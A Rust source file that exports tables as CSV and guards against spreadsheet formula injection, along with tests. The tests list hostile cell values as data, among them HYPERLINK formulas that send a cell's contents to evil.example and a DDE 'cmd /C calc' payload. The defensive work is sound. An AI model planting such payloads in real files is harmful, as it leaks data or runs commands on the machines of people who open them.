//! RFC 4180 CSV, UTF-8 with a byte-order mark (so Excel reads currency
//! symbols and accents right) and a header row, produced in parts.
//!
//! Text cells that a spreadsheet would run as a formula (starting with `=`,
//! `+`, `-`, `@`, tab or carriage return) get a leading `'`, as OWASP's
//! "CSV Injection" page recommends; amounts and dates are written as plain
//! numbers and ISO dates, never altered (`-12.50` stays `-12.50`).
//!
//! A spreadsheet whose list separator is `;` (or tab) splits a line at it,
//! and the piece after `x;=HYPERLINK(...)` would start a live formula: so
//! a piece after a separator that starts like a formula gets the `'` too,
//! and every cell that is not a number is quoted (keeps the cell whole for
//! readers that honour quotes under any separator).

use std::borrow::Cow;

use super::table::{Cell, Column, Row};
use super::{ExportError, Format};

/// What a part's buffer holds beyond the part: one page of rows as CSV.
const PAGE_ROOM: usize = 2 << 20;

pub struct CsvFile {
    writer: csv::Writer<Vec<u8>>,
}

/// UTF-8 byte-order mark.
pub const BOM: &[u8] = b"\xEF\xBB\xBF";

/// First characters that make a spreadsheet read a cell as a formula
/// (OWASP, "CSV Injection").
const FORMULA_TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Characters a spreadsheet may split a line at (its list separator).
const SEPARATORS: [char; 3] = [',', ';', '\t'];

/// A text cell as written: prefixed with `'` when it starts like a
/// formula, and so is every piece after a separator that would start like
/// one (`x;=HYPERLINK(...)` becomes `x;'=HYPERLINK(...)`). Quoting alone
/// does not keep such a cell whole: a reader splitting at `;` leaves the
/// quoted state at the first quoted cell of the line followed by a `,`,
/// so the pieces of later cells stand alone.
pub fn neutralise(text: &str) -> Cow<'_, str> {
    let starts = text.starts_with(FORMULA_TRIGGERS);
    let hides = text.char_indices().any(|(i, c)| {
        SEPARATORS.contains(&c) && text[i + c.len_utf8()..].starts_with(FORMULA_TRIGGERS)
    });
    if !starts && !hides {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 4);
    if starts {
        out.push('\'');
    }
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        out.push(c);
        if SEPARATORS.contains(&c) && chars.peek().is_some_and(|n| FORMULA_TRIGGERS.contains(n)) {
            out.push('\'');
        }
    }
    Cow::Owned(out)
}

/// A cell as written: text neutralised, money and dates as they display.
fn csv_cell(cell: &Cell) -> String {
    match cell {
        Cell::Text(text) => neutralise(text).into_owned(),
        Cell::Date(_) | Cell::Money(_) => cell.display(),
    }
}

fn writer(buffer: Vec<u8>) -> csv::Writer<Vec<u8>> {
    csv::WriterBuilder::new()
        .terminator(csv::Terminator::CRLF)
        .quote_style(csv::QuoteStyle::NonNumeric)
        .from_writer(buffer)
}

impl CsvFile {
    pub fn new(columns: &[Column]) -> Result<Self, ExportError> {
        let mut buffer = Vec::with_capacity(1 << 16);
        buffer.extend_from_slice(BOM);
        let mut writer = writer(buffer);
        writer
            .write_record(columns.iter().map(|c| c.header))
            .map_err(|e| ExportError::write(Format::Csv, e))?;
        Ok(CsvFile { writer })
    }

    pub fn write_row(&mut self, row: &Row) -> Result<(), ExportError> {
        self.writer
            .write_record(row.iter().map(csv_cell))
            .map_err(|e| ExportError::write(Format::Csv, e))
    }

    /// The bytes written so far once they reach `at_least` (a multipart
    /// part), leaving the writer empty.
    pub fn take_part(&mut self, at_least: usize) -> Result<Option<Vec<u8>>, ExportError> {
        self.writer.flush().map_err(|e| ExportError::write(Format::Csv, e))?;
        if self.writer.get_ref().len() < at_least {
            return Ok(None);
        }
        // Room for a part and one more page of rows (a DynamoDB page is at
        // most 1 MB), so the buffer never doubles past a part.
        let full =
            std::mem::replace(&mut self.writer, writer(Vec::with_capacity(at_least + PAGE_ROOM)));
        full.into_inner().map(Some).map_err(|e| ExportError::write(Format::Csv, e.error()))
    }

    /// The rest of the file.
    pub fn finish(self) -> Result<Vec<u8>, ExportError> {
        self.writer.into_inner().map_err(|e| ExportError::write(Format::Csv, e.error()))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::exports::table::{Cell, Kind};
    use rust_decimal_macros::dec;

    #[test]
    fn quotes_and_encodes_like_rfc_4180() {
        let columns = [
            Column { header: "Name", kind: Kind::Text, width: 10.0 },
            Column { header: "Total", kind: Kind::Money, width: 10.0 },
        ];
        let mut file = CsvFile::new(&columns).unwrap();
        file.write_row(&vec![Cell::Text("Café \"Zürich\", AG".into()), Cell::Money(dec!(1234.5))])
            .unwrap();
        let bytes = file.finish().unwrap();
        assert!(bytes.starts_with(BOM));
        let text = String::from_utf8(bytes[3..].to_vec()).unwrap();
        assert_eq!(text, "\"Name\",\"Total\"\r\n\"Café \"\"Zürich\"\", AG\",1234.50\r\n");
    }

    /// The data rows of a file, parsed back.
    fn rows(bytes: &[u8]) -> Vec<Vec<String>> {
        let mut reader = csv::ReaderBuilder::new().from_reader(&bytes[BOM.len()..]);
        reader.records().map(|r| r.unwrap().iter().map(str::to_owned).collect()).collect()
    }

    #[test]
    fn text_that_starts_like_a_formula_is_neutralised_and_numbers_stay_numbers() {
        let columns = [
            Column { header: "Customer", kind: Kind::Text, width: 10.0 },
            Column { header: "Date", kind: Kind::Date, width: 10.0 },
            Column { header: "Total", kind: Kind::Money, width: 10.0 },
        ];
        let day = chrono::NaiveDate::from_ymd_opt(2025, 12, 1).unwrap();
        let hostile = [
            (
                "=HYPERLINK(\"http://evil.example\",\"x\")",
                "'=HYPERLINK(\"http://evil.example\",\"x\")",
            ),
            ("+SUM(1+1)", "'+SUM(1+1)"),
            ("@SUM(1,1)", "'@SUM(1,1)"),
            ("-2+3", "'-2+3"),
            ("\tx", "'\tx"),
            ("\rx", "'\rx"),
            ("=1", "'=1"),
            ("-", "'-"),
        ];
        let ordinary = [
            "Acme Holdings Ltd.",
            "Zoë O'Neil",
            "a=b",
            "1+1",
            "",
            " =not at the start",
            "'=quoted",
        ];
        let mut file = CsvFile::new(&columns).unwrap();
        for (text, _) in hostile {
            file.write_row(&vec![
                Cell::Text(text.into()),
                Cell::Date(day),
                Cell::Money(dec!(-12.5)),
            ])
            .unwrap();
        }
        for text in ordinary {
            file.write_row(&vec![
                Cell::Text(text.into()),
                Cell::Date(day),
                Cell::Money(dec!(-0.01)),
            ])
            .unwrap();
        }
        let bytes = file.finish().unwrap();
        let rows = rows(&bytes);
        assert_eq!(rows.len(), hostile.len() + ordinary.len());
        for (row, (text, written)) in rows.iter().zip(hostile) {
            assert_eq!(row[0], written, "{text:?}");
            assert_eq!(row[1..], ["2025-12-01", "-12.50"], "numbers and dates are left alone");
        }
        for (row, text) in rows[hostile.len()..].iter().zip(ordinary) {
            assert_eq!(row[0], text, "ordinary text is unchanged");
            assert_eq!(row[2], "-0.01");
        }
        // The raw bytes: quoting still applies to the neutralised cell, and
        // the negative amount is a bare number.
        let text = String::from_utf8(bytes[BOM.len()..].to_vec()).unwrap();
        assert!(
            text.contains(
                "\"'=HYPERLINK(\"\"http://evil.example\"\",\"\"x\"\")\",\"2025-12-01\",-12.50\r\n"
            ),
            "{text}"
        );
        assert!(text.contains("\r\n\"'+SUM(1+1)\",\"2025-12-01\",-12.50\r\n"), "{text}");
        assert!(text.contains("\r\n\"'\rx\",\"2025-12-01\",-12.50\r\n"), "{text}");
    }

    /// Every cell of `bytes` read with `separator`, as a spreadsheet of a
    /// locale whose list separator it is would split them.
    fn cells_read_with(bytes: &[u8], separator: u8) -> Vec<String> {
        let mut reader = csv::ReaderBuilder::new()
            .delimiter(separator)
            .has_headers(false)
            .flexible(true)
            .from_reader(&bytes[BOM.len()..]);
        reader
            .records()
            .flat_map(|r| r.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
            .collect()
    }

    /// A company name that hides a formula behind `;` (or a tab) stays one
    /// quoted cell: read with `,`, `;` or tab as the separator, no cell
    /// starts a formula.
    #[test]
    fn no_cell_starts_a_formula_under_any_separator() {
        // The name is not the first cell: a reader splitting at `;` leaves
        // the quoted state after the first cell (`"O-1",`), so quotes alone
        // would not keep the name whole.
        let columns = [
            Column { header: "Order", kind: Kind::Text, width: 10.0 },
            Column { header: "Customer", kind: Kind::Text, width: 10.0 },
            Column { header: "Date", kind: Kind::Date, width: 10.0 },
            Column { header: "Total", kind: Kind::Money, width: 10.0 },
        ];
        let day = chrono::NaiveDate::from_ymd_opt(2025, 12, 1).unwrap();
        let names = [
            "x;=HYPERLINK(\"https://evil.example/?\"&A1;\"y\")",
            "x\t=HYPERLINK(\"https://evil.example/\")",
            "x,=1+1",
            "a;b;@SUM(1;1)",
            "=1;=2",
            "Acme;Holdings",
        ];
        let mut file = CsvFile::new(&columns).unwrap();
        for name in names {
            let row = [Cell::Text("O-1".into()), Cell::Text(name.into()), Cell::Date(day)];
            file.write_row(&vec![
                row[0].clone(),
                row[1].clone(),
                row[2].clone(),
                Cell::Money(dec!(5)),
            ])
            .unwrap();
        }
        let bytes = file.finish().unwrap();
        for separator in [b',', b';', b'\t'] {
            let cells = cells_read_with(&bytes, separator);
            assert!(!cells.is_empty());
            for cell in &cells {
                assert!(
                    !cell.starts_with(FORMULA_TRIGGERS),
                    "read with {:?}, a cell starts a formula: {cell:?}",
                    separator as char
                );
            }
        }
        // Read with the separator it was written with, every name is one
        // cell: itself, with a `'` before each piece that starts a formula.
        let rows = rows(&bytes);
        for (row, name) in rows.iter().zip(names) {
            assert_eq!(row[1], neutralise(name));
            assert_eq!(
                row[1]
                    .replace(";'", ";")
                    .replace(",'", ",")
                    .replace("\t'", "\t")
                    .trim_start_matches('\''),
                name
            );
        }
    }

    #[test]
    fn neutralise_prefixes_only_formula_starts() {
        for trigger in ['=', '+', '-', '@', '\t', '\r'] {
            let text = format!("{trigger}cmd|' /C calc'!A0");
            assert_eq!(neutralise(&text), format!("'{text}"));
        }
        assert_eq!(neutralise("x;=A1;b,+1\t@2"), "x;'=A1;b,'+1\t'@2");
        assert_eq!(neutralise("=1;=2"), "'=1;'=2");
        for text in ["", "x=1", "12", "ORD-1", "\nline", " -1", "Acme; Holdings", "a,b", "x; =1"] {
            assert!(matches!(neutralise(text), Cow::Borrowed(t) if t == text), "{text:?}");
        }
    }

    /// Excel files need no neutralising: text goes in as string cells, never
    /// as formulas (rust_xlsxwriter's `write_string`).
    #[test]
    fn excel_keeps_formula_like_text_as_plain_strings() {
        use std::io::Cursor;

        use calamine::{Data, Reader, Xlsx};

        let columns = [
            Column { header: "Customer", kind: Kind::Text, width: 10.0 },
            Column { header: "Total", kind: Kind::Money, width: 10.0 },
        ];
        let hostile =
            ["=HYPERLINK(\"http://evil.example\",\"x\")", "+SUM(1+1)", "@SUM(1,1)", "-2+3"];
        let mut file = crate::exports::xlsx_file::XlsxFile::new(&columns, "Orders", "USD").unwrap();
        for text in hostile {
            file.write_row(&vec![Cell::Text(text.into()), Cell::Money(dec!(-12.5))]).unwrap();
        }
        let mut bytes = Vec::new();
        file.finish(&mut bytes).unwrap();
        let mut book: Xlsx<_> = Xlsx::new(Cursor::new(bytes)).unwrap();
        let formulas = book.worksheet_formula("Orders").unwrap();
        assert!(formulas.used_cells().all(|(_, _, f)| f.is_empty()), "no formula cells");
        let range = book.worksheet_range("Orders").unwrap();
        for (i, text) in hostile.iter().enumerate() {
            assert_eq!(range.get((i + 1, 0)), Some(&Data::String((*text).into())));
            assert_eq!(range.get((i + 1, 1)), Some(&Data::Float(-12.5)));
        }
    }
}
